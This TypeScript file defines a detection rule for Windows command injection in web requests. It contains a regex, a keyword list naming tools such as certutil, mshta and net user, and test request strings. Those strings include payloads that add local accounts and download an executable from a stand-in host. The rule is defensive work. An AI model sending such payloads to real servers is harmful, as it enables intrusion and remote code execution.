import { each } from '../example.ts'
import { defineRule } from '../rule.ts'

export default defineRule({
  id: 'cmdi/windows-command',
  title: 'Windows command in a request',
  why: 'Calls cmd.exe, or a command of the Windows shell after a separator, to run code on an IIS or XAMPP server.',
  ja: {
    title: 'Windows コマンドの注入',
    why: 'cmd.exe を呼び出す、または区切り文字の後に Windows のコマンドを続けて、IIS や XAMPP サーバー上で実行させようとしています。',
  },
  severity: 'high',
  stage: 'inject',
  attack: ['T1059.003', 'T1190'],
  cwe: [78],
  refs: [
    'https://attack.mitre.org/techniques/T1059/003/',
    'https://learn.microsoft.com/windows-server/administration/windows-commands/cmd',
  ],

  where: ['path', 'query', 'referrer', 'agent', 'user'],
  needs: [
    [
      'cmd.exe',
      'cmd /c',
      'cmd+/c',
      'comspec',
      'dir c:',
      'dir+c:',
      'dir d:',
      'net user',
      'net localgroup',
      'net1 user',
      'ping.exe',
      'type c:',
      'type %',
      'tasklist',
      'wmic ',
      'rundll32',
      'regsvr32',
      'mshta',
      'certutil',
      'bitsadmin',
      'cscript',
      'ipconfig /all',
      'systeminfo',
      'waitfor /t',
      'timeout /t',
      'timeout -t',
    ],
  ],
  match:
    /\bcmd(?:\.exe)?["']?[\s+]{0,3}\/[ckr]\b|\bcmd\.exe(?:$|[\s"&'|?])|%comspec%|\b(?:dir|type)[\s+]{1,3}[a-z]:|\bnet1?(?:\.exe)?\s(?:user|localgroup)\s[^&]|\bping\.exe\s|\b(?:wmic\s(?:process|os|path)|rundll32(?:\.exe)?\s|regsvr32(?:\.exe)?\s+\/|mshta(?:\.exe)?\s(?:https?|vbscript|javascript):|certutil(?:\.exe)?\s+-|bitsadmin(?:\.exe)?\s+\/|cscript(?:\.exe)?\s)|ipconfig\s\/all|(?:waitfor|timeout)\s[/-]t\s\d|[&;|]\s?(?:tasklist|systeminfo)\b/i,

  hits: [
    'GET /a.asp?x=|dir+c:\\ HTTP/1.1',
    'GET /scripts/x.bat?&cmd.exe+/c+dir HTTP/1.1',
    'GET /a?x=%26+net+user+bob+pw+/add HTTP/1.1',
    'GET /a?x=certutil+-urlcache+-f+http://203.0.113.9/a.exe HTTP/1.1',
    'GET /a?x=ping.exe%20-n%2030%20127.0.0.1 HTTP/1.1',
    'GET /a.asp?x=|type+c:\\ HTTP/1.1',
    'GET /a?x=%26+net+localgroup+bob+pw+/add HTTP/1.1',
    ...each(
      'GET /a?x={}urlcache+-f+http://203.0.113.9/a.exe HTTP/1.1',
      'wmic+process rundll32+ regsvr32+/ mshta+http: bitsadmin+/ cscript+',
    ),
    'GET /a?x=wmic+osurlcache+-f+http://203.0.113.9/a.exe HTTP/1.1',
    'GET /a?x=wmic+pathurlcache+-f+http://203.0.113.9/a.exe HTTP/1.1',
    'GET /a?x=mshta+vbscript:urlcache+-f+http://203.0.113.9/a.exe HTTP/1.1',
    'GET /a?x=mshta+javascript:urlcache+-f+http://203.0.113.9/a.exe HTTP/1.1',
    'GET /|dir+c:\\ HTTP/1.1',
    { request: 'GET / HTTP/1.1', referrer: 'https://www.example.com/a.asp?x=|dir+c:\\' },
    { request: 'GET / HTTP/1.1', agent: '|dir+c:\\' },
    { request: 'GET / HTTP/1.1', user: '|dir+c:\\' },
    ...each(
      'GET /a?x={} HTTP/1.1',
      `cmd+/c+a cmd.exe+/k+a cmd.exe %25comspec%25 ipconfig+/all waitfor+/t+9 timeout+/t+9 |tasklist
    ;systeminfo`,
    ),
    'GET /a?x=cmd.exe+ HTTP/1.1',
    ...each('GET /a.asp?x=|{}\\ HTTP/1.1', 'cmd%20/c cmd%2B%2Fc dir%20c: dir+d:'),
    'GET /scripts/x.bat?&net1+user+/c+dir HTTP/1.1',
    'GET /a?x=timeout+-t+9 HTTP/1.1',
  ],
  misses: [
    'GET /help/cmd.html?dir=c HTTP/1.1',
    'GET /shop?type=c:blue HTTP/1.1',
    'GET /q?text=the+internet+user+guide HTTP/1.1', // "net user" inside another word
    'GET /download/cmd.exercise.pdf HTTP/1.1',
    { message: 'upstream timed out, request: "GET /a.asp?x=|dir+c:\\ HTTP/1.1"' },
  ],
})
